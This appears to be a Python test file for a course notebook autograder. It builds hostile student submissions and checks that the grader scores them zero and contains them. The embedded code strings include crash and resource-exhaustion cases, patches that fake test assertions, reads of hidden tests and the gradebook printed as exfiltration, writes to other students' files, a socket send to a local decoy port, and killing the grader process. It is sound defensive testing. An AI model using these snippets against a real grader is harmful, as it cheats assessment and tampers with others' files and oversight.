"""Hostile and broken submissions, each graded through ``python -m autograder grade 06_gae NB --json``.

The corpus is built here by code, from the released notebook and the reference solutions: a hostile
case replaces one graded function by a wrapper around its reference (something nasty first, or a wrong
result, or a patch), so one submission carries several cases, each on a function no other case of that
submission calls; every other function stays correct. For each submission the test checks, per test
cell: the cells a case breaks score 0 with the expected status and a sentence naming the cause, every
other cell keeps its points, the grader exits normally within its limits, and nothing outside the
graded folder changed (a decoy student's files, the repository's ``helpers/`` and ``minirlhf/``).

Notebook 06 loads no trained model, so a grading run costs seconds. ``CORPUS_TABLE`` (printed with
``pytest -s``) is the case -> expected -> got table.
"""

from __future__ import annotations

import copy
import hashlib
import json
import socket
import subprocess
import sys
import threading
import time
from dataclasses import dataclass
from pathlib import Path

import pytest

from autograder import grading
from autograder.sandbox import landlock_abi
from helpers.notebook import cell_kind, cell_source, nbgrader_meta, read_notebook, strip_solution_markers

ROOT = Path(__file__).resolve().parent.parent
NB = "06_gae"
LANDLOCK = landlock_abi()
NEEDS_LANDLOCK = "needs Landlock (Linux >= 5.13) to keep the kernel out of the course's files"


@dataclass
class Case:
    """A hostile version of one graded function: code run first (``body``), its result, or module-level code."""

    name: str
    function: str
    lose: tuple[str, ...]  # test cells that must score 0 (the others keep their points)
    status: str = ""  # expected status of the lost cells
    says: str = ""  # a phrase the message of the first lost cell contains
    body: str = ""
    result: str = ""  # an expression replacing `_reference(*args, **kwargs)`
    module: str = ""  # code after the definition, at module level
    needs: int = 0  # Landlock ABI the defence needs (0: none)


def cells_of(fn: str) -> tuple[str, ...]:
    return (f"test_{fn}", f"test_{fn}_errors")


REF = "_reference(*args, **kwargs)"
KILL_PARENT = "import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\nexcept OSError:\n    pass"

CRASHES = [
    Case("os._exit in a graded function", "per_token_rewards", cells_of("per_token_rewards"), "crashed",
         "exited with code 3", body="import os\nos._exit(3)"),
    Case("segfault through ctypes", "compute_gae", cells_of("compute_gae"), "crashed", "segmentation fault",
         body="import ctypes\nctypes.string_at(0)"),
    Case("sys.exit in a graded function", "masked_whiten", cells_of("masked_whiten"), "failed", "sys.exit",
         body="import sys\nsys.exit(1)"),
]
LIMITS = [
    Case("infinite loop", "masked_whiten", cells_of("masked_whiten"), "time limit", "ran longer than",
         body="while True:\n    pass"),
    Case("4 GB allocation", "compute_gae", cells_of("compute_gae"), "memory limit", "more memory than",
         body="import torch\n_big = torch.ones(2 ** 30)  # 4 GiB of float32"),
    Case("100 MB of prints (correct answer)", "per_token_rewards", (), body='print("spam " * 20_000_000)'),
    Case("warnings spam (correct answer)", "masked_mean", (),
         body='import warnings\nwarnings.simplefilter("always")\nfor _i in range(50):\n'
              '    warnings.warn(f"spam {_i}", UserWarning)'),
]
TAMPERING = [
    Case("helpers.checks patched at definition time (wrong answer)", "masked_whiten", cells_of("masked_whiten"),
         "failed", "", result="torch.zeros_like(args[0])",
         module="import helpers.checks as _c\n_c.assert_close = lambda *a, **k: None\n"
                "_c.assert_tensor = lambda *a, **k: None\n_c.gradcheck = lambda *a, **k: None"),
    Case("torch.autograd.gradcheck and helpers.checks patched during the call", "per_token_rewards",
         cells_of("per_token_rewards"), "tampering", "replaced",
         body="import torch, helpers.checks as _c\ntorch.autograd.gradcheck = lambda *a, **k: True\n"
              "_c.assert_close = lambda *a, **k: None\n_c.assert_tensor = lambda *a, **k: None",
         result="torch.zeros_like(args[1])"),
    Case("torch.allclose and Tensor.__eq__ patched during the call", "compute_gae", cells_of("compute_gae"),
         "tampering", "replaced torch.allclose, torch.Tensor.__eq__",
         body="import torch\ntorch.allclose = lambda *a, **k: True\ntorch.Tensor.__eq__ = lambda s, o: True"),
    Case("helpers/checks.py rewritten in its own folder and reloaded during the call", "kl_estimate",
         cells_of("kl_estimate"), "tampering", "replaced helpers.checks.assert_close",
         body="import importlib, helpers.checks\n"
              "with open('helpers/checks.py', 'a') as _f:\n"
              "    _f.write('\\ndef assert_close(*a, **k):\\n    return None\\n')\n"
              "importlib.reload(helpers.checks)"),
]
OBJECTS = [
    Case("object whose __eq__/__bool__ are always True", "masked_whiten", cells_of("masked_whiten"), "failed",
         "expected a torch.Tensor", result="_AlwaysTrue()",
         module="class _AlwaysTrue:\n    __eq__ = lambda s, o: True\n    __ne__ = lambda s, o: False\n"
                "    __bool__ = lambda s: True\n    __hash__ = object.__hash__"),
    Case("tensor subclass whose == is always True", "compute_gae", cells_of("compute_gae")[:1], "failed",
         "expected a torch.Tensor",
         result="tuple(torch.zeros_like(t).as_subclass(_EqTensor) for t in _reference(*args, **kwargs))",
         module="class _EqTensor(torch.Tensor):\n    def __eq__(self, other):\n"
                "        return torch.ones(self.shape, dtype=torch.bool)\n    __bool__ = lambda s: True"),
    Case("NaN/inf outputs", "per_token_rewards", cells_of("per_token_rewards")[:1], "failed", "nan",
         result="torch.full_like(_reference(*args, **kwargs), float('nan'))"),
]
TYPES = [
    Case("wrong dtype (float64 out for float32 in)", "masked_whiten", cells_of("masked_whiten")[:1], "failed",
         "dtype", result=f"{REF}.double()"),
    Case("wrong device (meta)", "per_token_rewards", cells_of("per_token_rewards")[:1], "failed", "",
         result=f"{REF}.to('meta')"),
    Case("in-place modification of an input", "compute_gae", cells_of("compute_gae")[:1], "failed", "in place",
         body="try:\n    args[0].add_(0)\nexcept Exception:\n    pass"),
]
CELLS_CHEAT = "the test cell"
CELLS = [
    Case("deleted test cells", "masked_mean", ()),
    Case("edited test cells (wrong answer)", "per_token_rewards", cells_of("per_token_rewards"), "failed", "",
         result="torch.zeros_like(args[1])"),
    Case("reordered test cells", "compute_gae", ()),
    Case("a cell redefining a test's helper (_expect) and shadowing built-ins", "kl_estimate",
         ("test_kl_estimate_errors",), "failed", "must raise ValueError",
         body="lp, ref = args[0], args[1]\nkind = args[2] if len(args) > 2 else kwargs.get('kind', 'k1')\n"
              "r = lp - ref",
         result="r if kind == 'k1' else (0.5 * r * r if kind == 'k2' else torch.expm1(-r) + r)",
         module="def _expect(*args, **kwargs):\n    return None\n\n\nAssertionError = Warning"),
]


def escape_cases(port: int, victim: Path, marker: Path) -> list[Case]:
    """Cases that reach outside the graded folder: paths and the port are the test's own decoys."""
    read = (
        "import json\n"
        "_found = None\n"
        f"for _p in [{str(ROOT / 'notebooks' / NB / (NB + '.ipynb'))!r}, '../../../source/{NB}/{NB}.ipynb',\n"
        f"           '{NB}.ipynb', '../../../gradebook.db']:\n"
        "    try:\n"
        "        _text = open(_p, encoding='utf-8', errors='replace').read()\n"
        "    except OSError:\n"
        "        continue\n"
        "    if 'BEGIN HIDDEN TESTS' in _text:\n"
        "        _found = _text\n"
        "        print(_text[-20000:])  # exfiltrate through the feedback\n"
        "        break\n"
    )
    write = (
        "import importlib, os\n"
        f"for _p in [{str(ROOT / 'helpers' / '_hostile.py')!r}, {str(ROOT / 'minirlhf' / '_hostile.py')!r},\n"
        f"           {str(victim)!r}, {str(marker)!r}, '../../../gradebook.db', '../../../source/{NB}/{NB}.ipynb']:\n"
        "    try:\n"
        "        with open(_p, 'a') as _f:\n"
        "            _f.write('# hostile')\n"
        "    except OSError:\n"
        "        pass\n"
    )
    network = (
        "import socket\n"
        "try:\n"
        f"    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'stolen hidden tests')\n"
        "except OSError:\n"
        "    pass\n"
    )
    return [
        Case("reading the hidden tests / source notebook from disk", "per_token_rewards",
             cells_of("per_token_rewards"), "failed", "", body=read,
             result="_reference(*args, **kwargs) if _found else torch.zeros_like(args[1])", needs=1),
        Case("writing outside the submission folder (helpers/, minirlhf/, another student, gradebook)",
             "masked_whiten", (), body=write, needs=1),
        Case("network access attempt", "compute_gae", (), body=network, needs=4),
        Case("killing the grader (os.kill of the parent)", "td_residuals", (), body=KILL_PARENT if LANDLOCK >= 6 else "",
             needs=6),
    ]


# --------------------------------------------------------------------------------------- building


@pytest.fixture(scope="module")
def release(tmp_path_factory):
    """(released notebook, reference solution source by grade_id)."""
    crs = grading.prepare_course(tmp_path_factory.mktemp("release") / "course", [NB])
    rel = read_notebook(crs / "release" / NB / f"{NB}.ipynb")
    src = read_notebook(ROOT / "notebooks" / NB / f"{NB}.ipynb")
    solutions = {nbgrader_meta(c)["grade_id"]: strip_solution_markers(cell_source(c))
                 for c in src["cells"] if cell_kind(c) == "solution"}
    return rel, solutions


def indent(code: str) -> str:
    return "\n".join("    " + line if line.strip() else "" for line in code.strip("\n").split("\n"))


def build(release, cases: list[Case]) -> dict:
    """The released notebook with every solution written in, and the cases' functions made hostile."""
    rel, solutions = release
    nb = copy.deepcopy(rel)
    hostile = {c.function: c for c in cases if c.body or c.result or c.module}
    for cell in nb["cells"]:
        if cell_kind(cell) != "solution":
            continue
        fn = nbgrader_meta(cell)["grade_id"]
        src = solutions[fn]
        case = hostile.get(fn)
        if case:
            src = src.replace(f"def {fn}(", f"def _reference_{fn}(", 1).replace("_reference(", f"_reference_{fn}(")
            result = (case.result or REF).replace("_reference(", f"_reference_{fn}(")
            body = case.body.replace("_reference(", f"_reference_{fn}(")
            src += (f"\n\n\ndef {fn}(*args, **kwargs):\n{indent(body) + chr(10) if body.strip() else ''}"
                    f"    return {result}\n")
            if case.module:
                src += "\n\n" + case.module.strip() + "\n"
        cell["source"] = src
    return nb


def grade(nb_path: Path, *options: str, timeout: float = 300) -> tuple[dict, float]:
    start = time.monotonic()
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", NB, str(nb_path), "--json", *options],
                          cwd=ROOT, capture_output=True, text=True, timeout=timeout)
    seconds = time.monotonic() - start
    assert proc.returncode == 0, f"the grader crashed on {nb_path.name}:\n{proc.stderr[-3000:]}"
    result = json.loads(proc.stdout.strip().splitlines()[-1])
    return result, seconds


CORPUS_TABLE: list[tuple[str, str, str]] = []


def check(result: dict, cases: list[Case]) -> None:
    cells = {c["grade_id"]: c for c in result["cells"]}
    lost_expected = {g for case in cases for g in case.lose}
    for case in cases:
        expected = "all points kept" if not case.lose else f"{', '.join(case.lose)} -> 0 ({case.status})"
        got_cells = [cells[g] for g in case.lose] or [cells[g] for g in cells_of(case.function) if g in cells]
        got = "; ".join(f"{c['grade_id']} {c['score']:g}/{c['max_score']:g} {c['status']}" for c in got_cells)
        first = cells[case.lose[0]]["message"] if case.lose else ""
        CORPUS_TABLE.append((case.name, expected, got + (f" — {first}" if first else "")))
        for g in case.lose:
            c = cells[g]
            assert c["score"] == 0, f"{case.name}: {g} kept {c['score']} points ({c['message']})"
            assert c["message"], f"{case.name}: {g} lost its points without a message"
            if g == case.lose[0]:
                assert c["status"] == case.status, f"{case.name}: {g} status {c['status']!r}: {c['message']}"
                assert case.says.lower() in c["message"].lower(), f"{case.name}: {g}: {c['message']!r}"
    for g, c in cells.items():
        if g not in lost_expected:
            assert c["score"] == c["max_score"], f"{g} lost points it should keep: {c['status']}: {c['message']}"
    assert result["score"] == sum(c["max_score"] for g, c in cells.items() if g not in lost_expected)


def repository_digest() -> str:
    h = hashlib.sha256()
    for folder in ("helpers", "minirlhf", "notebooks"):
        for p in sorted((ROOT / folder).rglob("*")):
            if p.is_file() and "__pycache__" not in p.parts:
                h.update(str(p).encode() + p.read_bytes())
    return h.hexdigest()


# ------------------------------------------------------------------------------------------ tests

SUBMISSIONS = {"crashes": CRASHES, "limits": LIMITS, "tampering": TAMPERING, "objects": OBJECTS, "types": TYPES}
OPTIONS = {"limits": ("--cell-timeout", "8", "--memory-limit", "2G")}


@pytest.mark.parametrize("which", list(SUBMISSIONS))
def test_hostile_submission(which, release, tmp_path):
    cases = SUBMISSIONS[which]
    nb_path = tmp_path / f"{NB}.ipynb"
    nb_path.write_text(json.dumps(build(release, cases)), encoding="utf-8")
    result, seconds = grade(nb_path, *OPTIONS.get(which, ()), "--feedback", str(tmp_path / "fb"))
    check(result, cases)
    assert seconds < 240, f"grading took {seconds:.0f} s"
    if which == "tampering":
        assert any("helpers.checks.assert_close" in n for n in result["notes"]), result["notes"]
    if which == "limits":  # 100 MB printed: the output kept is capped, the feedback stays small
        assert Path(result["feedback"]).stat().st_size < 5_000_000


def test_hostile_cells(release, tmp_path):
    """Deleted, edited, reordered test cells and a redefined helper: the release's tests run, in place."""
    nb = build(release, CELLS)
    cells = nb["cells"]
    tid = lambda c: nbgrader_meta(c).get("grade_id")  # noqa: E731
    cells[:] = [c for c in cells if tid(c) not in ("test_masked_mean", "test_td_residuals_errors")]
    for c in cells:
        if tid(c) in cells_of("per_token_rewards"):
            c["source"] = 'print("visible test passed")'
    moved = [c for c in cells if tid(c) in cells_of("compute_gae")]
    cells[:] = moved[::-1] + [c for c in cells if c not in moved]
    nb_path = tmp_path / f"{NB}.ipynb"
    nb_path.write_text(json.dumps(nb), encoding="utf-8")
    result, _ = grade(nb_path)
    check(result, CELLS)
    notes = " ".join(result["notes"])
    assert "test_masked_mean was missing" in notes and "test_per_token_rewards was edited" in notes, notes
    assert "moved" in notes, notes


@pytest.mark.skipif(LANDLOCK < 1, reason=NEEDS_LANDLOCK)
def test_hostile_escapes(release, tmp_path):
    """Reading the hidden tests, writing outside the folder, the network, killing the grader: all refused."""
    victim = tmp_path / "other_student" / NB / f"{NB}.ipynb"
    victim.parent.mkdir(parents=True)
    victim.write_text('{"a decoy": "another student\'s submission"}', encoding="utf-8")
    marker = tmp_path / "written_by_the_kernel.txt"
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def listen():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            received.append(conn.recv(100) or b"(connected)")
            conn.close()

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    cases = [c for c in escape_cases(server.getsockname()[1], victim, marker) if LANDLOCK >= c.needs]
    before = repository_digest()
    nb_path = tmp_path / "submission" / f"{NB}.ipynb"
    nb_path.parent.mkdir()
    nb_path.write_text(json.dumps(build(release, cases)), encoding="utf-8")
    try:
        result, _ = grade(nb_path, "--feedback", str(tmp_path / "fb"))
    finally:
        stop.set()
        thread.join(5)
        server.close()
    check(result, cases)
    assert result["sandbox"].get("landlock", 0) >= 1, result["sandbox"]
    assert victim.read_text(encoding="utf-8") == '{"a decoy": "another student\'s submission"}'
    assert not marker.exists(), "the kernel wrote outside its folder"
    assert repository_digest() == before, "the kernel changed the repository's helpers/, minirlhf/ or notebooks/"
    assert not received, f"the kernel reached the network: {received}"
    html = Path(result["feedback"]).read_text(encoding="utf-8")
    source = read_notebook(ROOT / "notebooks" / NB / f"{NB}.ipynb")
    leaked = [s for s in grading.hidden_lines(source) if s in html]
    assert not leaked, f"the feedback shows hidden-test lines: {leaked[:2]}"


def test_unreadable_submissions(tmp_path):
    """Not JSON, an empty file, JSON that is not a notebook: score 0, one sentence, no crash."""
    files = {
        "invalid JSON": ('{"cells": [{"cell_type": "code", "source": "x = 1"', "not a valid notebook: its JSON is broken"),
        "empty file": ("", "empty"),
        "not a notebook": ('["a", "list", "of", "words"]', "not a Jupyter notebook"),
    }
    for name, (text, says) in files.items():
        path = tmp_path / name.replace(" ", "_") / f"{NB}.ipynb"
        path.parent.mkdir()
        path.write_text(text, encoding="utf-8")
        result, seconds = grade(path)
        assert result["score"] == 0 and result["max_score"] > 0, result
        assert says in result["error"], result["error"]
        assert all(c["status"] == "not run" and says in c["message"] for c in result["cells"])
        CORPUS_TABLE.append((name, "every cell 0 (not run), no crash", f"score 0/{result['max_score']:g} — {result['error']}"))


def test_zz_print_corpus_table():
    """With ``pytest -s``: the case -> expected -> got table (only the cases this worker ran)."""
    for name, expected, got in CORPUS_TABLE:
        print(f"| {name} | {expected} | {got} |")
